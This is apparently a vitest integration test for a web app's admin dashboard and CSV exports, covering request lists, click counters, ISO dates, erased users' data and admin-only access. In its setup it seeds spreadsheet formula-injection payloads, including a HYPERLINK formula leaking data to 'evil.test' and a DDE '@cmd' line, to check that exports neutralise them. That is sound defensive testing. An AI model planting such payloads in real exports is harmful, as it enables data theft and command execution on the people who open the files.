import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseEnv } from "~/lib/env.server";
import { getRuntime, type Runtime, startRuntime } from "~/lib/runtime.server";
import { signedInAccount } from "../support/accounts";
import { type AppServer, postForm, startAppServer } from "../support/app-server";
import { createTestDatabase, DIALECTS, type TestDatabase } from "../support/databases";
import { pageHtml } from "../support/html";
import { HttpClient } from "../support/http-client";
import { confirmedPrivacyStep } from "../support/privacy";
import { SmtpSink } from "../support/smtp-sink";

/**
 * The back office's dashboard and CSV exports (issue 13 item 9) over HTTP: open requests by
 * kind and age, oldest first, linking to their detail pages; the click counters for 7 and 30
 * days; every list as a spreadsheet-safe CSV download (a formula typed into a request arrives
 * as text), the requests export honouring the inbox's filters; admins only, files answer 403.
 * Every export writes its dates and times in ISO 8601 and an erased person's name as an empty
 * cell, never the screens' "Deleted user" in the admin's language.
 */
const PASSWORD = "orchard by the river";
const ADMIN = { email: "admin@example.test", password: "correct horse battery staple" };
const BOM = "\uFEFF";
/** The body as written, byte-order mark included (Response.text() drops it). */
const csvText = async (response: Response) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
const EXPORTS = ["requests", "outbox", "listings", "provider-applications", "reviews"] as const;
const INSTANT = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/;
const DAY = /^\d{4}-\d{2}-\d{2}$/;
/** The export columns that hold a date or a time, by heading (the provider application's by its English labels). */
const DATE_COLUMNS: Record<string, RegExp> = {
  created_at: INSTANT,
  sent_at: INSTANT,
  decided_at: INSTANT,
  available_from: DAY,
  review_date: DAY,
  "Work permit expiry date": DAY,
  "ID expiry date": DAY,
  "License expiry date": DAY,
};

/** The records of a CSV document (RFC 4180, as app/lib/csv.ts writes it), each keyed by its heading. */
function csvRecords(text: string): Record<string, string>[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const body = text.replace(/^\uFEFF/, "");
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (body[i + 1] === '"') cell += body[++i];
      else quoted = false;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && body[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      [row, cell] = [[], ""];
      i++;
    } else cell += c;
  }
  const [header = [], ...records] = rows;
  return records.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? ""])));
}

describe.each(DIALECTS)("admin dashboard and exports on %s", (dialect) => {
  let database: TestDatabase;
  let server: AppServer;
  let runtime: Runtime;
  const sink = new SmtpSink();
  let admin: HttpClient;
  let user: HttpClient;
  const stamp = Date.now().toString(36);
  const references: Record<string, string> = {};

  const account = async (email: string, name: string) =>
    (await signedInAccount(server.url, getRuntime().db, { email, name, password: PASSWORD })).client;

  /** Sends the contact form as a browser without JavaScript; returns the stored request's reference. */
  async function contact(fields: { name: string; subject: string; message: string }) {
    expect((await postForm(`${server.url}/contact`, { email: "ada@example.com", ...fields })).status).toBe(302);
    const row = await getRuntime()
      .db.selectFrom("requests")
      .select("reference")
      .where("kind", "=", "contact-message")
      .orderBy("created_at", "desc")
      .executeTakeFirstOrThrow();
    return row.reference;
  }

  const ageRequest = (reference: string, days: number) =>
    getRuntime()
      .db.updateTable("requests")
      .set({ created_at: new Date(Date.now() - days * 86_400_000).toISOString() })
      .where("reference", "=", reference)
      .execute();

  beforeAll(async () => {
    database = await createTestDatabase(dialect);
    await sink.start(0);
    server = await startAppServer({
      DATABASE_URL: database.url,
      DATA_DIR: database.dataDir,
      SMTP_URL: sink.url,
      ADMIN_EMAIL: ADMIN.email,
      ADMIN_PASSWORD: ADMIN.password,
      PAGE_CACHE_SECONDS: "0",
    });
    const env = parseEnv({ DATABASE_URL: database.url, DATA_DIR: database.dataDir, OPERATOR_EMAIL: "operator@example.test" });
    runtime = await startRuntime(env, { startMailWorker: false, log: () => {} });
    admin = new HttpClient(server.url);
    expect((await admin.post("/auth/login", ADMIN)).status).toBe(302);
    user = await account(`user.${stamp}@example.com`, "Uma User");

    references.formula = await contact({
      name: `=HYPERLINK("http://evil.test/?leak="&A1,"Click") ${stamp}`,
      subject: `+SUM(1,2) ${stamp}`,
      message: "@cmd|' /C calc'!A0",
    });
    references.old = await contact({ name: `Olga Oldest ${stamp}`, subject: "Waiting", message: "Still waiting" });
    references.mid = await contact({ name: `Mia Middle ${stamp}`, subject: "Waiting too", message: "Also waiting" });
    references.closed = await contact({ name: `Cora Closed ${stamp}`, subject: "Done", message: "Handled" });
    await ageRequest(references.old, 10);
    await ageRequest(references.mid, 2);
    await getRuntime().db.updateTable("requests").set({ status: "cancelled" }).where("reference", "=", references.closed).execute();

    // Click counters: today, 10 days ago, 40 days ago (outside both windows).
    const day = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString().slice(0, 10);
    await getRuntime()
      .db.insertInto("analytics_daily")
      .values([
        { name: "Sign Up Click", day: day(0), count: 3 },
        { name: "Sign Up Click", day: day(10), count: 5 },
        { name: "Sign Up Click", day: day(40), count: 7 },
        { name: "For Providers Click", day: day(6), count: 2 },
      ])
      .execute();
  });
  afterAll(async () => {
    await runtime?.stop();
    await server?.stop();
    await sink.stop();
    await database?.drop();
  });

  it("lists open requests by kind and age, oldest waiting first, linking to their detail pages", async () => {
    const html = await pageHtml(await admin.get("/admin"));
    const at = (reference: string) => html.indexOf(`href="/admin/requests/${reference}"`);
    expect(at(references.old!)).toBeGreaterThan(-1);
    expect(at(references.mid!)).toBeGreaterThan(at(references.old!));
    expect(at(references.formula!)).toBeGreaterThan(at(references.mid!));
    expect(at(references.closed!)).toBe(-1);
    // The contact messages' row: 3 open, one in each of the bands < 1 day, 1–3 days and 7+ days.
    const kindRow = html.match(/<tr[^>]*data-kind="contact-message"[^>]*>([\s\S]*?)<\/tr>/)?.[1] ?? "";
    expect(kindRow.replace(/<[^>]+>/g, "|").replace(/\|+/g, "|")).toContain("|3|1|1|0|1|");
  });

  it("shows the click counters for the last 7 and 30 days", async () => {
    const html = await pageHtml(await admin.get("/admin"));
    const cells = (event: string) =>
      (html.match(new RegExp(`<tr[^>]*data-event="${event}"[^>]*>([\\s\\S]*?)</tr>`))?.[1] ?? "")
        .replace(/<[^>]+>/g, "|")
        .replace(/\|+/g, "|");
    expect(cells("Sign Up Click")).toContain("|3|8|");
    expect(cells("For Providers Click")).toContain("|2|2|");
    expect(cells("Login Click")).toContain("|0|0|");
  });

  it("exports requests as spreadsheet-safe CSV, with the inbox's filters", async () => {
    const response = await admin.get(`/admin/export/requests.csv?kind=contact-message&q=${stamp}`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="requests-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get("cache-control")).toContain("no-store");
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    expect(csv.startsWith(`${BOM}reference,kind,status,appointment,title,name,email,created_at,details,quote_status,quote_currency,quote_subtotal,quote_hst,quote_total\r\n`)).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);

    // The formula arrives as text: apostrophe first, quotes doubled, inside a quoted field.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"") ${stamp}"`);
    // No field anywhere starts with a formula character.
    const fields = csv.slice(1).split(/,|\r\n/).map((f) => f.replace(/^"/, ""));
    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
    // The kind's fields, in one cell, neutralised where they start a line? They start the cell.
    expect(csv).toContain("Subject: +SUM(1,2)");

    // Filters: the inbox's own (kind, status, text); the closed one is cancelled.
    for (const reference of [references.formula, references.old, references.mid, references.closed]) expect(csv).toContain(reference);
    const received = await (await admin.get(`/admin/export/requests.csv?kind=contact-message&status=received&q=${stamp}`)).text();
    expect(received).not.toContain(references.closed);
    expect(received).toContain(references.old);
    const one = await (await admin.get(`/admin/export/requests.csv?q=${references.mid}`)).text();
    expect(one.trim().split("\r\n")).toHaveLength(2);

    // A deleted request is gone from the export.
    await getRuntime().db.updateTable("requests").set({ deleted_at: new Date().toISOString() }).where("reference", "=", references.closed!).execute();
    expect(await (await admin.get(`/admin/export/requests.csv?q=${stamp}`)).text()).not.toContain(references.closed);
  });

  it("exports every list with a header row; an unknown list is 404", async () => {
    const headers: Record<(typeof EXPORTS)[number], string> = {
      requests: "reference,kind,status",
      outbox: "id,kind,to,subject,status,attempts,last_error,created_at,sent_at",
      listings: "id,title,status,property_type,price,price_unit,city,neighborhood,address,bedrooms,bathrooms,available_from,owner_name,owner_email,owner_phone,str_registration,landlord_verified,created_at",
      "provider-applications": "reference,status,created_at",
      reviews: "id,status,rating,service,service_slug,provider_id,request_id,username,review_date,comment,reject_reason,decided_at,created_at",
    };
    for (const list of EXPORTS) {
      const response = await admin.get(`/admin/export/${list}.csv`);
      expect(response.status, list).toBe(200);
      expect(response.headers.get("content-disposition"), list).toContain(`filename="${list}-`);
      const text = await csvText(response);
      expect(text.startsWith(`${BOM}${headers[list]}`), text.slice(0, 100)).toBe(true);
    }
    // Seeded listings and reviews are there; the outbox holds this run's notifications.
    expect((await (await admin.get("/admin/export/listings.csv")).text()).split("\r\n").length).toBeGreaterThan(2);
    expect(await (await admin.get("/admin/export/outbox.csv?status=sent")).text()).toContain("operator@example.test");
    expect((await admin.get("/admin/export/users.csv")).status).toBe(404);
  });

  it("writes every date in ISO 8601 and an erased person's name as an empty cell, in every export", async () => {
    const { db } = getRuntime();
    const now = new Date().toISOString();
    const insertRequest = async (kind: string, status: string, name: string, email: string, data: Record<string, unknown>, subject?: string) => {
      const reference = `GTA-X${randomUUID().slice(0, 6).toUpperCase()}`;
      await db
        .insertInto("requests")
        .values({
          id: randomUUID(), reference, token_hash: randomUUID(), kind, status, user_id: null, name, email, data: JSON.stringify(data), locale: "en-US",
          subject_type: subject ? kind : null, subject_id: subject ?? null, created_at: now, updated_at: now, deleted_at: null, provider_id: null,
        })
        .execute();
      return reference;
    };
    const application = (fullName: string, email: string) => ({
      applicationId: randomUUID(), fullName, email, phone: "416-555-0199", address: "1 Bloor St W", serviceAreas: ["Toronto"], services: ["handyman"],
      customService: null, workStatus: "work_permit", workPermitExpiry: "2027-05-01", confirmEligibility: true, idType: "passport", idNumber: "P1234567",
      idExpiry: "2028-01-31", licenseType: null, licenseNumber: null, licenseRegion: null, licenseExpiry: null, agreeToPolicies: true, consentToChecks: true, documents: [],
    });
    const applied = application(`Priya Applicant ${stamp}`, `priya.${stamp}@example.com`);
    const kept = await insertRequest("provider-application", "received", applied.fullName, applied.email, applied, applied.applicationId);
    // A typed Toronto date and time: 15:40 on 11 December is 20:40 UTC.
    const ride = await insertRequest("car-request", "received", `Carl Rider ${stamp}`, `carl.${stamp}@example.com`, {
      type: "airport-transfer", fullName: `Carl Rider ${stamp}`, email: `carl.${stamp}@example.com`, direction: "Pickup from Airport", airport: "YYZ", flightNumber: "AC100", pickupTime: "2026-12-11T15:40",
    });

    // Erin asked through the contact form and applied; then asked to be erased, through the back office.
    const erin = { name: `Erin Erased ${stamp}`, email: `erin.${stamp}@example.com` };
    expect((await postForm(`${server.url}/contact`, { ...erin, subject: "About me", message: "Please erase me" })).status).toBe(302);
    const erinsApplication = application(erin.name, erin.email);
    const erased = await insertRequest("provider-application", "cancelled", erin.name, erin.email, erinsApplication, erinsApplication.applicationId);
    const contacted = (await db.selectFrom("requests").select("reference").where("email", "=", erin.email).where("kind", "=", "contact-message").executeTakeFirstOrThrow()).reference;
    const erinsSubject = { email: erin.email, phone: "" };
    expect((await admin.post("/admin/privacy", { intent: "erase", ...erinsSubject, included: await confirmedPrivacyStep(admin, "confirm", erinsSubject) })).status).toBe(303);

    // In French too: the screens' marker reads "Utilisateur supprimé" there.
    const french = new HttpClient(server.url);
    french.cookies.set("lang", "fr-CA");
    expect((await french.post("/auth/login", ADMIN)).status).toBe(302);
    for (const client of [admin, french]) {
      const exported: Record<string, Record<string, string>[]> = {};
      for (const list of EXPORTS) {
        const text = await csvText(await client.get(`/admin/export/${list}.csv`));
        for (const marker of ["Deleted user", "Utilisateur supprimé", erin.name, erin.email]) expect(text, list).not.toContain(marker);
        exported[list] = csvRecords(text);
        expect(exported[list].length, list).toBeGreaterThan(0);
        for (const record of exported[list]) {
          for (const [column, shape] of Object.entries(DATE_COLUMNS)) {
            if (record[column]) expect(record[column], `${list} ${column}`).toMatch(shape);
          }
        }
      }
      const requests = exported.requests!;
      // Erin's requests stay, for our books, with her name and address as empty cells.
      for (const reference of [contacted, erased]) {
        expect(requests.find((r) => r.reference === reference), reference).toMatchObject({ name: "", email: "" });
      }
      expect(requests.find((r) => r.reference === kept)).toMatchObject({ name: applied.fullName, email: applied.email });
      expect(requests.find((r) => r.reference === ride)?.details).toContain(": 2026-12-11T20:40:00.000Z");
      expect(requests.find((r) => r.reference === kept)?.details).toMatch(/: 2027-05-01(\n|$)/);

      const applications = exported["provider-applications"]!;
      const row = applications.find((r) => r.reference === kept);
      expect(row?.created_at).toBe(now);
      if (client === admin) {
        expect(row).toMatchObject({ "Full name": applied.fullName, Email: applied.email, "Work permit expiry date": "2027-05-01", "ID expiry date": "2028-01-31", "License expiry date": "" });
        expect(applications.find((r) => r.reference === erased)).toMatchObject({ "Full name": "", Email: "", "Work permit expiry date": "" });
      } else {
        expect(Object.values(row ?? {})).toEqual(expect.arrayContaining(["2027-05-01", "2028-01-31"]));
      }
      // The outbox's sent emails keep their times; Erin's are trimmed to nothing that names her.
      expect(exported.outbox!.some((r) => INSTANT.test(r.sent_at ?? ""))).toBe(true);
    }
  });

  it("answers 403 with no data to a logged-out visitor and to a regular user, on the dashboard's exports", async () => {
    const visitor = new HttpClient(server.url);
    for (const list of EXPORTS) {
      for (const client of [visitor, user]) {
        const response = await client.get(`/admin/export/${list}.csv`);
        expect(response.status, list).toBe(403);
        expect(response.headers.get("content-disposition")).toBeNull();
        const body = await response.text();
        expect(body).not.toContain(stamp);
        expect(body).not.toContain("reference,");
      }
    }
    const page = await visitor.get("/admin");
    expect(page.status).toBe(302);
    const forbidden = await user.get("/admin");
    expect(forbidden.status).toBe(403);
    expect(await forbidden.text()).not.toContain(references.old);
  });
});
